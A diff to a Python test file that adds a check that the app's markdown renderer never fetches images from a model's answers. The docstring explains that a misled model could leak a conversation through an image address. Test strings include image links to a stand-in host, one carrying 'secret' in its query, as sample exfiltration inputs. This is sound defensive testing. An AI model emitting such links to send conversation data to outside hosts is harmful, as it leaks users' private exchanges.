@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import re
 import shutil
 import subprocess
@@ -216,3 +217,34 @@ def test_every_file_says_its_one_job_and_is_small() -> None:
         beginning = {".js": "// ", ".css": "/* "}.get(path.suffix, "<")
         assert text.startswith(beginning), path.name
         assert text.count("\n") <= MAX_LINES, path.name
+
+
+def test_pictures_in_an_answer_are_never_fetched() -> None:
+    """A model that was led astray could send a conversation away in the address of a picture."""
+    node = shutil.which("node")
+    if node is None:
+        pytest.skip("needs node, to run JavaScript")
+    names = ("markdown/inline.js", "markdown/blocks.js", "shared/dom.js")
+    modules = {name: (STATIC / name).read_text() for name in names}
+    modules["app.js"] = """import { toNodes } from "./markdown/inline.js";
+        const parts = (node) => (node.tag ? [node.tag, ...node.inner.flatMap(parts)] : []);
+        for (const text of JSON.parse(process.argv[1]))
+          console.log(toNodes(text).flatMap(parts).join(" ") || "text");
+        """
+    document = """globalThis.document = { createElement: (tag) => ({
+        tag, inner: [], setAttribute() {}, append(...more) { this.inner.push(...more); } }) };"""
+    texts = {
+        "![a](https://x.example/?q=secret)": "a",
+        "**![a](https://x.example/a.png)**": "strong a",
+        "[![a](https://x.example/a.png)](https://x.example)": "a a",
+        "![a](data:image/png;base64,AA)": "span",
+        "![a][b]": "text",
+        "![a]": "text",
+        "<img src=https://x.example/a.png>": "a",
+        '<img src="//x.example/a.png">': "text",
+    }
+    script = document + bundle.script(modules, "app.js")
+    command = [node, "-e", script, json.dumps(list(texts))]
+    done = subprocess.run(command, capture_output=True, text=True, check=True)
+    assert done.stdout.splitlines() == list(texts.values())
+    assert not any("img" in source or "new Image" in source for source in modules.values())
